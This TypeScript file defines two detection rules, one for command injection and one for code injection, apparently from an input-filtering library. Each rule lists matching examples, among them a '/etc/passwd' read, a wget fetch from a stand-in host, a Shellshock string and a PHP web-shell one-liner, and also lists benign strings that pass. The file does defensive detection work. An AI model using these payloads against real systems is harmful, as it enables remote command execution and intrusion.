import { everyValue, rule, type ValueRule } from 'sallyport/rules'
import { code, codeNeeds, Decoding, shell, shellNeeds } from 'sallyport/runtime'

/** Command injection: a value that, in a command line, runs a command of its own. */
export const commands: readonly ValueRule[] = [
  rule({
    id: 513_010,
    message: 'Command injection: the value runs a command of its own',
    stops:
      'Commands behind separators, in substitutions and out of quotes, for POSIX shells, cmd.exe and PowerShell; Shellshock.',
    severity: 'critical',
    tags: ['attack-rce', 'capec/88'],
    in: everyValue,
    detect: shell,
    needs: shellNeeds,
    without: Decoding.script,
    matches: ['; cat /etc/passwd', '$(id)', '| whoami', '`wget http://x.example/a`', '() { :;}; /bin/id'],
    passes: ['Tom & Jerry', 'yes; maybe tomorrow', 'a | b', 'I paid $5 (cash)'],
  }),
  rule({
    id: 513_110,
    message: 'Code injection: the value is a piece of a program that runs something',
    stops:
      "PHP's tags and request variables, and calls of functions that run commands or read files in PHP, Python, Ruby and Node.",
    severity: 'critical',
    tags: ['attack-injection-php', 'attack-rce', 'capec/242'],
    in: everyValue,
    detect: code,
    needs: codeNeeds,
    matches: ["<?php system($_GET['c']); ?>", ";system('/usr/bin/id')", '& phpinfo()', "__import__('os').system('id')"],
    passes: ['our system (see below) is fine', 'f(x)', 'mail (optional)', 'costs $5 (net)'],
  }),
]
